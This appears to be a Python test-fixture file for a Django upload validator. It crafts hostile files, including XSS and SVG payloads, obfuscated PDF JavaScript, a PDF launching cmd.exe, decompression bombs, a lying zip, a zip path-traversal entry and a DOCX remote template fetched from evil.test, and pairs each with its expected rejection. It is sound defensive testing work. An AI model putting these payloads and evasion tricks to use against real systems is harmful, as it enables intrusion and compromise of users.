"""Files as people send them, and as attackers do. Made here, so that what is in them can be read."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

WORD = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
)
SCRIPT = b"<script>alert(document.domain)</script>"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type)


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, kind, **options)
    return output.getvalue()


def photo_with_place() -> bytes:
    """A photo that tells where it was taken, and holds a page in its comment."""
    exif = Image.Exif()
    exif[0x010E] = "Kanarėlės gatvė 7"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif.tobytes(), comment=SCRIPT)


def pdf(body: bytes = b"", before: bytes = b"", after: bytes = b"") -> bytes:
    objects = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + body + b" >>\nendobj\n"
    objects += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    return before + b"%PDF-1.4\n" + objects + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + after


ACTION = b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"


def packed(
    objects: bytes,
    *,
    kind: bytes = b"/ObjStm",
    filters: bytes = b"/FlateDecode",
    begin: bytes = b"stream\n",
    before: bytes = b"",
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> bytes:
    """A PDF of version 1.5 with an object stream."""
    said = b"5 0 obj\n<< /Type " + kind + b" /N 1 /First 4 /Filter " + filters + b" >>\n"
    stream = before + said + begin + pack(objects) + b"\nendstream\nendobj\n"
    return pdf().replace(b"trailer", stream + b"trailer")


def archive(files: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in files.items():
            opened.writestr(name, content)
        opened.comment = comment
    return output.getvalue()


def word(more: dict[str, bytes] | None = None, **options: Any) -> bytes:
    files = {"[Content_Types].xml": WORD[0], "word/document.xml": WORD[1]}
    return archive({**files, **(more or {})}, **options)


def sheet(more: dict[str, bytes] | None = None) -> bytes:
    return archive({"[Content_Types].xml": WORD[0], "xl/workbook.xml": b"<workbook/>", **(more or {})})


def huge_picture() -> bytes:
    """A PNG of a few bytes whose header announces 13000 by 13000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 13_000, 13_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def lying_archive() -> bytes:
    """An entry that unpacks to more than its entry in the directory says."""
    raw = bytearray(word({"word/media/x.bin": b"0" * 500_000}))
    for offset, mark in ((22, b"PK\x03\x04"), (24, b"PK\x01\x02")):
        start = raw.rindex(mark)
        raw[start + offset : start + offset + 4] = struct.pack("<I", 10)
    return bytes(raw)


REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Target="https://evil.test/x.dotm" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
# What is sent, and why it is not taken.
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "an SVG": ("logo.svg", SVG, "active"),
    "an SVG that claims to be a PNG": ("logo.png", SVG, "active"),
    "a page that claims to be text": ("notes.txt", b"Hello\n" + SCRIPT, "active"),
    "a page behind a mark and blanks": ("list.csv", b"\xef\xbb\xbf \n\n<html><body>1,2", "active"),
    "a page in UTF-16": ("notes.txt", "<html>".encode("utf-16"), "active"),
    "a program": ("invoice.pdf", b"MZ\x90\x00\x03" + bytes(200), "wrong_kind"),
    "a GIF": ("a.png", b"GIF89a" + bytes(40), "wrong_kind"),
    "a picture of 169 million pixels": ("a.png", huge_picture(), "too_many_pixels"),
    "half a photo": ("a.jpg", picture(size=(400, 400))[:700], "not_a_picture"),
    "a PDF with JavaScript": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    "a PDF that hides JavaScript": ("a.pdf", pdf(b"/OpenAction << /S /J#61vaScr#69pt >>"), "active"),
    "a PDF that starts a program": ("a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "a PDF that carries a file": ("a.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "active"),
    "a PDF with JavaScript in packed objects": ("a.pdf", packed(ACTION), "active"),
    "one that says so in other letters": ("a.pdf", packed(ACTION, kind=b"/Obj#53tm"), "active"),
    "one whose stream begins another way": ("a.pdf", packed(ACTION, begin=b"stream\r"), "active"),
    "one with a stream in a comment before it": ("a.pdf", packed(ACTION, before=b"% stream\n"), "active"),
    "one with an end in a comment": ("a.pdf", packed(ACTION, begin=b"% endstream\nstream\n"), "damaged"),
    "objects packed twice": ("a.pdf", packed(zlib.compress(ACTION)), "damaged"),
    "objects packed so that nobody looks": (
        "a.pdf",
        packed(ACTION, filters=b"/ASCIIHexDecode", pack=lambda raw: raw.hex().encode() + b">"),
        "damaged",
    ),
    "objects with a filter named elsewhere": ("a.pdf", packed(ACTION, filters=b"9 0 R"), "damaged"),
    "objects cut into rows": ("a.pdf", packed(ACTION, filters=b"/FlateDecode/DecodeParms<</Predictor 12>>"), "damaged"),
    "a bomb of objects": ("a.pdf", packed(b"1 0 " + bytes(30_000_000)), "damaged"),
    "a PDF of nothing but beginnings": ("a.pdf", packed(b"1 0 ", before=b"stream " * 1_000_000), "damaged"),
    "a PDF that is an archive too": ("a.pdf", pdf(after=archive({"x.exe": b"MZ"})) + b"%%EOF", "damaged"),
    "a page that is a PDF too": ("a.pdf", pdf(before=SCRIPT), "active"),
    "a PDF with a page at its start": ("a.pdf", b"%PDF-1.4\n" + SCRIPT + pdf(), "damaged"),
    "half a PDF": ("a.pdf", pdf()[:60], "damaged"),
    "an archive of anything": ("a.docx", archive({"setup.exe": b"MZ"}), "wrong_kind"),
    "a bomb": ("a.xlsx", sheet({"xl/worksheets/sheet1.xml": bytes(50_000_000)}), "wrong_kind"),
    "too many entries": ("a.docx", word({f"word/{number}.xml": b"x" for number in range(1000)}), "wrong_kind"),
    "an archive that lies": ("a.docx", lying_archive(), "wrong_kind"),
    "macros": ("a.docx", word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "wrong_kind"),
    "a template from elsewhere": (
        "a.docx",
        word({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "wrong_kind",
    ),
    "a path out of the archive": ("a.docx", word({"../../evil.xml": b"x"}), "wrong_kind"),
    "an archive behind something else": ("a.docx", word() + b"<html>", "wrong_kind"),
    "an archive with a comment": ("a.docx", word(comment=SCRIPT), "wrong_kind"),
    "text with a NUL": ("a.txt", b"one\x00two", "wrong_kind"),
    "nothing": ("a.txt", b"", "empty"),
}
